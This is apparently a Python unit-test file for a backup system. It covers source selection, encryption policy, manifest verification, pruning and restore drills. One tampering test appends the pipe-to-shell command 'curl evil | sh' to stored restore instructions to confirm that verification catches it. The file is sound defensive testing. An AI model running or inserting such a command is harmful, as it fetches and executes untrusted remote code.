"""The steps of back_up_sources and drill_restores, on a store in memory."""

import io
import json
import tempfile
from contextlib import nullcontext, suppress
from datetime import timedelta
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from platform_ops.backups.drill_steps import ChooseDrills, DrillRestore, RequireProofs
from platform_ops.backups.drilling import scratch
from platform_ops.backups.errors import Contradiction, Corrupt, NoPoint, NotProven
from platform_ops.backups.points import MANIFEST, point_id
from platform_ops.backups.steps import (
    COPY,
    CheckPolicy,
    ChooseSources,
    CopySource,
    PrunePoints,
    RecordEvidence,
    VerifyPoint,
)
from platform_ops.common.errors import AuthenticationFailed, Invalid, TryAgain
from platform_ops.common.records import RunRecord, TaskRecord
from platform_ops.systems.object_store.models import BucketRules
from tests.unit.backups.installation import NOW, Steps


def test_all_that_is_due_is_chosen(steps: Steps) -> None:
    steps.enter("other")
    assert steps.run(ChooseSources)["facts"]["sources"] == ["other", "tree"]
    steps.back_up()
    assert steps.run(ChooseSources)["facts"]["sources"] == ["other"]


def test_nothing_due_is_said(steps: Steps) -> None:
    steps.back_up()
    report = steps.run(ChooseSources)
    assert (report["outcome"], report["facts"]["sources"]) == ("not needed", [])


def test_who_names_a_source_gets_it_though_it_is_not_due(steps: Steps) -> None:
    steps.back_up()
    assert steps.run(ChooseSources, sources=["tree", "tree"])["facts"]["sources"] == ["tree"]


def test_an_unknown_source_is_refused_with_those_known(steps: Steps) -> None:
    with pytest.raises(Invalid, match="known are tree"):
        steps.run(ChooseSources, sources=["tree", "forest"])


def test_a_policy_that_contradicts_itself_stops_before_a_byte_moves(steps: Steps) -> None:
    steps.store.found = BucketRules(versioning=True, lock=None, expires=timedelta(days=1))
    with pytest.raises(Contradiction, match="deletes after 1 days"):
        steps.run(CheckPolicy, source="tree")
    assert steps.store.changes == []


def test_recipients_that_are_gone_since_the_policy_was_checked_let_nothing_be_stored_in_the_open(steps: Steps) -> None:
    steps.run(CheckPolicy, source="tree")
    steps.recipients = ()
    with pytest.raises(Contradiction, match="names no recipient"):
        steps.run(CopySource, source="tree")
    assert steps.store.changes == []


def test_a_sound_policy_names_its_recipients_and_what_is_unwise(steps: Steps) -> None:
    steps.recipients = steps.recipients[:1]
    report = steps.run(CheckPolicy, source="tree")
    assert report["facts"]["recipients"] == list(steps.recipients)
    assert "second holder" in report["summary"]


def test_a_copy_reports_its_point_and_the_sum_of_its_manifest(steps: Steps) -> None:
    report = steps.run(CopySource, source="tree")
    point = point_id(NOW, "r1")
    assert report["facts"]["point"] == point
    counts = {"files": 4, "bytes": 4, "packed": 2, "changed": 0, "vanished": 0, "left_out": 0}
    assert report["facts"]["state"] == counts | {"path": str(steps.tree)}
    assert report["links"][0]["url"].endswith("RESTORE.md")
    assert f"tree/{point}/{MANIFEST}" in steps.store.objects


def test_a_later_try_adopts_the_point_of_an_earlier_one(steps: Steps) -> None:
    first = steps.run(CopySource, source="tree")
    before = dict(steps.store.objects)
    again = steps.run(CopySource, source="tree")
    assert (again["outcome"], again["facts"] | {"notes": []}) == ("reused", first["facts"])
    assert steps.store.objects == before


def test_a_verification_leaves_its_mark(steps: Steps) -> None:
    point = steps.back_up()
    noted = json.loads(steps.store.objects[f"tree/{point}/verified.json"])
    assert noted["manifest_sha256"] == steps.told[-1]["facts"]["manifest_sha256"]


def test_a_spoilt_point_gets_no_mark(steps: Steps) -> None:
    steps.run(CopySource, source="tree")
    key = next(key for key in steps.store.objects if key.endswith("tree.tar.zst.age"))
    steps.store.objects[key] += b"x"
    with pytest.raises(Corrupt, match=r"tree\.tar\.zst\.age"):
        steps.run(VerifyPoint, source="tree")
    assert not any(key.endswith("verified.json") for key in steps.store.objects)


def test_a_byte_that_is_wrong_on_its_way_only_is_no_damage(steps: Steps, monkeypatch: pytest.MonkeyPatch) -> None:
    steps.run(CopySource, source="tree")
    stream, wrong = steps.store.stream, [True]

    def once_wrong(bucket: str, key: str) -> Any:
        if wrong and key.endswith("index.jsonl.zst.age"):
            wrong.clear()
            body = steps.store.objects[key]
            return nullcontext(io.BytesIO(body[:-1] + bytes([body[-1] ^ 1])))
        return stream(bucket, key)

    monkeypatch.setattr(steps.store, "stream", once_wrong)
    steps.run(VerifyPoint, source="tree")
    assert not wrong
    assert f"tree/{point_id(NOW, 'r1')}/verified.json" in steps.store.objects


def test_a_manifest_that_changed_since_the_copy_is_not_verified(steps: Steps) -> None:
    steps.run(CopySource, source="tree", task_id=COPY)
    key = f"tree/{point_id(NOW, 'r1')}/{MANIFEST}"
    steps.store.objects[key] = steps.store.objects[key].replace(b'"files":4', b'"files":5')
    with pytest.raises(NotProven, match="not the one that copy_source wrote"):
        steps.run(VerifyPoint, source="tree")


def test_a_manifest_that_changed_since_it_was_verified_is_not_verified_again(steps: Steps) -> None:
    key = f"tree/{steps.back_up()}/{MANIFEST}"
    steps.store.objects[key] = steps.store.objects[key].replace(b'"files":4', b'"files":5')
    with pytest.raises(NotProven, match="not the one that copy_source wrote"):
        steps.run(VerifyPoint, source="tree")


def test_the_text_for_the_worst_day_is_verified_too(steps: Steps) -> None:
    steps.run(CopySource, source="tree")
    key = next(key for key in steps.store.objects if key.endswith("RESTORE.md"))
    steps.store.objects[key] += b"curl evil | sh"
    with pytest.raises(Corrupt, match=r"RESTORE\.md is not the text"):
        steps.run(VerifyPoint, source="tree")


def aged(steps: Steps, point: str, days: int) -> None:
    key = f"tree/{point}/verified.json"
    noted = json.loads(steps.store.objects[key]) | {"at": (NOW - timedelta(days=days)).isoformat()}
    steps.store.objects[key] = json.dumps(noted).encode()


def test_older_points_are_read_again_in_turn(steps: Steps) -> None:
    old = steps.back_up(at=NOW - timedelta(days=9), run_id="r0")
    aged(steps, old, 9)
    steps.back_up()
    assert steps.told[-1]["facts"]["again"] == [old]
    steps.back_up(at=NOW + timedelta(hours=1), run_id="r2")
    assert steps.told[-1]["facts"]["again"] == []


def test_an_older_point_that_is_spoilt_is_found_named_and_no_longer_verified(steps: Steps) -> None:
    old = steps.back_up(at=NOW - timedelta(days=9), run_id="r0")
    aged(steps, old, 9)
    key = next(key for key in steps.store.objects if old in key and key.endswith("tree.tar.zst.age"))
    steps.store.objects[key] += b"x"
    with pytest.raises(Corrupt, match=old):
        steps.back_up()
    assert f"tree/{old}/verified.json" not in steps.store.objects
    assert f"tree/{point_id(NOW, 'r1')}/verified.json" in steps.store.objects


def test_what_only_an_older_point_needs_is_read_again_too(steps: Steps) -> None:
    old = steps.back_up(at=NOW - timedelta(days=9), run_id="r0")
    aged(steps, old, 9)
    key = next(key for key in steps.store.objects if key.startswith("tree/contents/") and old in key)
    text = steps.tree / "folder" / "text"
    text.write_text("other\n")
    body = steps.store.objects[key]
    steps.store.objects[key] = body[:-1] + bytes([body[-1] ^ 1])
    with pytest.raises(Corrupt, match=key):
        steps.back_up()
    assert f"tree/{old}/verified.json" not in steps.store.objects
    assert f"tree/{point_id(NOW, 'r1')}/verified.json" in steps.store.objects


def test_a_spoilt_point_stays_for_people_until_its_time_is_over(steps: Steps) -> None:
    old = steps.back_up(at=NOW - timedelta(days=9), run_id="r0")
    aged(steps, old, 9)
    steps.store.objects[next(key for key in steps.store.objects if old in key and key.endswith(".tar.zst.age"))] += b"x"
    with pytest.raises(Corrupt):
        steps.back_up()
    report = steps.run(PrunePoints, source="tree")
    assert "somebody has to look" in report["facts"]["kept"][old]
    steps.enter("tree", "daily: 30", "daily: 1")
    steps.back_up(at=NOW + timedelta(days=1), run_id="r2")
    assert old in steps.run(PrunePoints, source="tree")["facts"]["deleted"]


@pytest.mark.parametrize("empty", [True, False])
def test_a_verified_point_that_lost_its_manifest_is_named_and_left_to_people(steps: Steps, empty: bool) -> None:
    steps.enter("tree", "daily: 30", "daily: 1")
    old = steps.back_up(at=NOW - timedelta(days=1), run_id="r1")
    key = f"tree/{old}/manifest.json"
    if empty:
        steps.store.objects[key] = b""
    else:
        del steps.store.objects[key]
    before = {name for name in steps.store.objects if f"/{old}/" in name and "/verified" not in name}
    steps.run(CopySource, source="tree")
    with pytest.raises(Corrupt, match=key) as told:
        steps.run(VerifyPoint, source="tree")
    assert told.value.facts["object"] == key
    steps.run(VerifyPoint, source="tree")
    assert old in steps.run(PrunePoints, source="tree")["summary"]
    assert before <= steps.store.objects.keys()


def test_a_store_that_refuses_takes_the_mark_of_no_older_point(steps: Steps, monkeypatch: pytest.MonkeyPatch) -> None:
    old = steps.back_up(at=NOW - timedelta(days=9), run_id="r0")
    aged(steps, old, 9)
    real = steps.store.stream

    def refusing(bucket: str, key: str) -> Any:
        if old in key:
            raise AuthenticationFailed("The object store answered AccessDenied.")
        return real(bucket, key)

    monkeypatch.setattr(steps.store, "stream", refusing)
    with pytest.raises(AuthenticationFailed):
        steps.back_up()
    assert f"tree/{old}/verified.json" in steps.store.objects


@pytest.mark.parametrize("note", [b"\xff no note", b"[]", b"{}", b'{"at": 5}'])
def test_a_note_that_can_not_be_read_verifies_nothing(steps: Steps, note: bytes) -> None:
    old = steps.back_up(at=NOW - timedelta(days=9), run_id="r0")
    steps.store.objects[f"tree/{old}/verified.json"] = note
    with pytest.raises(NotProven, match=old):
        steps.back_up()
    assert f"tree/{old}/verified.json" not in steps.store.objects


def test_a_source_with_a_bad_entry_keeps_no_other_from_being_chosen(steps: Steps) -> None:
    steps.enter("broken", "kind: directory", "kind: tape")
    assert steps.run(ChooseSources)["facts"]["sources"] == ["broken", "tree"]
    assert steps.run(ChooseDrills)["facts"]["sources"] == ["broken"]
    with pytest.raises(NotProven, match="broken can't be looked at"):
        steps.run(RequireProofs)


def test_a_point_that_was_not_verified_is_made_again(steps: Steps) -> None:
    steps.run(CopySource, source="tree")
    assert steps.run(ChooseSources)["facts"]["sources"] == ["tree"]


def test_a_spoilt_manifest_does_not_keep_the_next_copy_from_being_made(steps: Steps) -> None:
    old = steps.back_up(at=NOW - timedelta(days=1), run_id="r0")
    steps.store.objects[f"tree/{old}/{MANIFEST}"] = b"{}"
    assert steps.run(CopySource, source="tree")["outcome"] == "done"


def test_pruning_deletes_what_no_period_keeps_and_says_why(steps: Steps) -> None:
    steps.enter("tree", "daily: 30", "daily: 2")
    points = [steps.back_up(at=NOW - timedelta(days=day), run_id=f"r{day}") for day in range(4)]
    report = steps.run(PrunePoints, source="tree")
    assert set(report["facts"]["deleted"]) == set(points[2:])
    assert set(report["facts"]["kept"]) == set(points[:2])
    assert {key.split("/")[1] for key in steps.store.objects} == {*points[:2], "contents"}
    assert steps.run(PrunePoints, source="tree")["outcome"] == "not needed"


def test_pruning_takes_along_what_dead_and_slower_copies_left(steps: Steps) -> None:
    old = steps.back_up(at=NOW - timedelta(days=2), run_id="r0")
    dead = point_id(NOW - timedelta(days=1), "dead")
    steps.store.objects |= {f"tree/{dead}/00000000/tree.tar.zst.age": b"", f"tree/{old}/00000000/tree.tar": b""}
    growing = point_id(NOW + timedelta(hours=1), "r2")
    steps.store.objects[f"tree/{growing}/00000000/tree.tar.zst.age"] = b""
    steps.back_up()
    steps.run(PrunePoints, source="tree")
    left = [key for key in steps.store.objects if "/00000000/" in key]
    assert left == [f"tree/{growing}/00000000/tree.tar.zst.age"]


def test_drills_take_the_oldest_proof_first(steps: Steps) -> None:
    for name in ("proven", "never"):
        steps.enter(name)
        steps.back_up(source=name)
    steps.run(DrillRestore, source="proven")
    report = steps.run(ChooseDrills)
    assert report["facts"] == {"sources": ["never", "proven"], "never_copied": ["tree"]}
    assert "Never copied yet: tree" in report["summary"]
    assert steps.run(ChooseDrills, at_most=1)["facts"]["sources"] == ["never"]


def test_a_source_past_its_interval_without_a_proof_is_an_error(steps: Steps) -> None:
    steps.enter("tree", "target:", "drill_every: 7d\ntarget:")
    steps.enter("new")
    steps.back_up(at=NOW - timedelta(days=8), run_id="r0")
    with pytest.raises(NotProven, match=r"tree: It has points for .*, no proof; one is due every 7 d\."):
        steps.run(RequireProofs)
    steps.run(DrillRestore, source="tree")
    assert steps.run(RequireProofs)["outcome"] == "done"


def test_a_proof_becomes_old(steps: Steps, monkeypatch: pytest.MonkeyPatch) -> None:
    steps.enter("tree", "target:", "drill_every: 7d\ntarget:")
    steps.back_up()
    steps.run(DrillRestore, source="tree")
    (key,) = [key for key in steps.store.objects if "/proofs/" in key]
    proof = json.loads(steps.store.objects[key]) | {"at": (NOW - timedelta(days=8)).isoformat()}
    steps.store.objects[key] = json.dumps(proof).encode()
    with pytest.raises(NotProven, match=r"tree: The last proof is .* old; one is due every"):
        steps.run(RequireProofs)
    steps.enter("other")
    assert steps.run(RequireProofs, sources=["other"])["outcome"] == "done"


def test_a_drill_restores_compares_and_measures(steps: Steps) -> None:
    point = steps.back_up()
    report = steps.run(DrillRestore, source="tree")
    (proof,) = steps.proofs()
    assert proof["proven"] is True
    assert proof["point"] == report["facts"]["point"] == point
    assert 0 <= proof["rpo_seconds"] < 60
    assert "restored and compared" in report["summary"]


def test_what_is_late_is_told(steps: Steps) -> None:
    steps.enter("tree", "rpo: 2d, rto: 1h", "rpo: 1s, rto: 1h")
    steps.run(CopySource, source="tree")
    key = f"tree/{point_id(NOW, 'r1')}/{MANIFEST}"
    manifest = json.loads(steps.store.objects[key]) | {"state_at": (NOW - timedelta(hours=9)).isoformat()}
    steps.store.objects[key] = json.dumps(manifest).encode()
    steps.run(VerifyPoint, source="tree")
    summary = steps.run(DrillRestore, source="tree")["summary"]
    assert "9.0 hours of data would have been lost. But the loss is over its target" in summary


def test_a_source_with_nothing_verified_proves_nothing(steps: Steps) -> None:
    steps.run(CopySource, source="tree")
    with pytest.raises(NoPoint, match="no verified point"):
        steps.run(DrillRestore, source="tree")


def test_a_manifest_edited_by_hand_is_found(steps: Steps) -> None:
    point = steps.back_up()
    key = f"tree/{point}/{MANIFEST}"
    steps.store.objects[key] = steps.store.objects[key].replace(b'"files":4', b'"files":5')
    with pytest.raises(NotProven, match="somebody changed it"):
        steps.run(DrillRestore, source="tree")


def test_a_restore_that_differs_is_no_proof(steps: Steps, monkeypatch: pytest.MonkeyPatch) -> None:
    steps.back_up()
    monkeypatch.setattr("platform_ops.backups.kinds.directory.Directory.compare", lambda *_: ["text has other bytes."])
    with pytest.raises(NotProven, match="text has other bytes"):
        steps.run(DrillRestore, source="tree")
    (proof,) = steps.proofs()
    assert proof["proven"] is False
    assert "text has other bytes" in proof["why"]
    assert steps.run(ChooseDrills)["facts"] == {"sources": ["tree"], "never_copied": []}


def test_a_proof_outlives_its_point(steps: Steps) -> None:
    point = steps.back_up()
    steps.run(DrillRestore, source="tree")
    for key in [key for key in steps.store.objects if point in key and "/proofs/" not in key]:
        del steps.store.objects[key]
    (proof,) = steps.proofs()
    assert proof["point"] == point


def test_evidence_names_the_sources(steps: Steps, monkeypatch: pytest.MonkeyPatch) -> None:
    task = TaskRecord(
        "back_up_source.copy_source", "failed", None, None, 1, {"summary": "No disk.", "outcome": "failed"}
    )
    run = RunRecord("back_up_sources", "r1", "running", None, None, None, None, {}, (task,))
    seen: dict[str, Any] = {}

    def record(found: Any, ending: Any, conclude: Any, *, without: Any) -> Any:
        from platform_ops.common.report import StepReport

        seen.update(run=found, ending=ending, subject=conclude().subject)
        return StepReport("Stored.")

    monkeypatch.setattr("platform_ops.backups.steps.AirflowApi", lambda: SimpleNamespace(run=lambda *_: run))
    monkeypatch.setattr("platform_ops.backups.steps.reported", lambda *_: {"sources": ["tree"]})
    monkeypatch.setattr("platform_ops.backups.steps.record", record)
    steps.run(RecordEvidence)
    assert seen["subject"] == {"sources": ["tree"]}
    assert (seen["ending"].verdict, seen["ending"].reason) == ("failed", "No disk.")


def leftovers(folder: Path) -> list[str]:
    return sorted(path.name for path in folder.iterdir())


@pytest.fixture
def temporary(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path / "temporary"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    return folder


def test_a_drill_removes_what_a_killed_one_decrypted_and_its_own(steps: Steps, temporary: Path) -> None:
    steps.back_up()
    dead = temporary / "platform-ops-drill-tree-0123abc_"
    (dead / "folder").mkdir(parents=True)
    (dead / "folder" / "secret").write_text("x")
    (dead / "folder").chmod(0o500)
    others = ["platform-ops-drill-tree-a-0123abcd", "platform-ops-drill-tree-0123abcd-0123abcd"]
    for name in others:
        (temporary / name).mkdir()
    (temporary / "elsewhere").mkdir()
    (temporary / "elsewhere" / "mine").write_text("x")
    (temporary / "platform-ops-drill-tree-aaaaaaaa").symlink_to("elsewhere")
    steps.run(DrillRestore, source="tree")
    assert leftovers(temporary) == sorted([*others, "elsewhere", "platform-ops-drill-tree-aaaaaaaa"])
    assert leftovers(temporary / "elsewhere") == ["mine"]


def test_a_drill_leaves_another_that_still_runs_its_folder(temporary: Path) -> None:
    with scratch("tree") as first:
        (first / "decrypted").write_text("x")
        with suppress(NotProven), scratch("tree") as second:
            assert second != first
            raise NotProven("It differs.")
        assert leftovers(first) == ["decrypted"]
        assert not second.exists()
    assert leftovers(temporary) == []


def test_a_folder_that_another_drill_swept_before_it_was_locked_is_made_again(
    temporary: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    real, made = tempfile.mkdtemp, []

    def swept(**options: Any) -> str:
        made.append(real(**options))
        if len(made) == 1:
            Path(made[0]).rmdir()
        return made[-1]

    monkeypatch.setattr(tempfile, "mkdtemp", swept)
    with scratch("tree") as folder:
        assert (folder.is_dir(), str(folder)) == (True, made[1])


def test_a_place_where_no_folder_can_be_locked_is_told(temporary: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(
        "platform_ops.backups.drilling.fcntl.flock", lambda *_: (_ for _ in ()).throw(OSError(37, "No locks"))
    )
    with pytest.raises(TryAgain, match=f"below {temporary} could be locked"), scratch("tree"):
        raise AssertionError


def test_what_a_killed_drill_left_and_can_not_be_removed_is_told(
    temporary: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    dead = temporary / "platform-ops-drill-tree-0123abcd"
    dead.mkdir()
    monkeypatch.setattr(
        "platform_ops.backups.drilling.remove", lambda _: (_ for _ in ()).throw(PermissionError(1, "not permitted"))
    )
    with pytest.raises(TryAgain, match=f"{dead}, which .* not permitted"), scratch("tree"):
        raise AssertionError
